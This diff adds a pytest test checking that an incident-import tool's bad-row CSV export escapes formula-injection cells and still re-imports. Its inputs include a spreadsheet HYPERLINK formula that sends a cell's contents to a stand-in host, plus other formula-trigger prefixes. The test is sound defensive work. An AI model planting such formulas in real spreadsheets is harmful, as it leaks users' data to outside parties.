@@ -122,6 +122,28 @@ def test_the_bad_rows_download_as_a_csv_to_fix_and_upload_again(client, login, t
     assert AuditEvent.objects.filter(action="export", object_id=str(batch.pk)).exists()
 
 
+def test_rows_to_fix_never_open_as_formulas_and_still_upload_again(client, login, team, coordinator):
+    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1 202 555 0101", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
+    export = io.StringIO()
+    csv.writer(export).writerows([
+        ["Incident #", "Incident Date", "First", "Last", "Phone", "=Notes"],
+        *([f"EMS-{n}", "3/1/2026", "Ana", "Lee", "12", cell] for n, cell in enumerate(hostile)),
+    ])
+    batch = run(team, coordinator, export.getvalue().encode())
+    assert batch.error_rows == len(hostile)  # "12" is no phone number: every row is to fix
+    login(coordinator)
+
+    download = client.get(reverse("survivors:import_bad_rows", args=[batch.pk])).content.decode()
+
+    rows = list(csv.reader(io.StringIO(download)))
+    assert rows[0] == ["Incident #", "Incident Date", "First", "Last", "Phone", "'=Notes", "Problem"]
+    assert [r[5] for r in rows[1:]] == ["'" + cell for cell in hostile]
+    assert rows[1][:5] == ["EMS-0", "3/1/2026", "Ana", "Lee", "12"]  # the rest as it was
+    fixed = run(team, coordinator, download.replace(",12,", ",202-555-0166,").encode())
+    assert fixed.created_events == len(hostile)
+    assert sorted(OverdoseEvent.objects.values_list("notes", flat=True)) == sorted(c.strip() for c in hostile)
+
+
 @pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig"])
 def test_windows_1252_and_utf8_with_bom_files_read_the_same(team, coordinator, encoding):
     batch = run(team, coordinator, MESSY.encode(encoding))
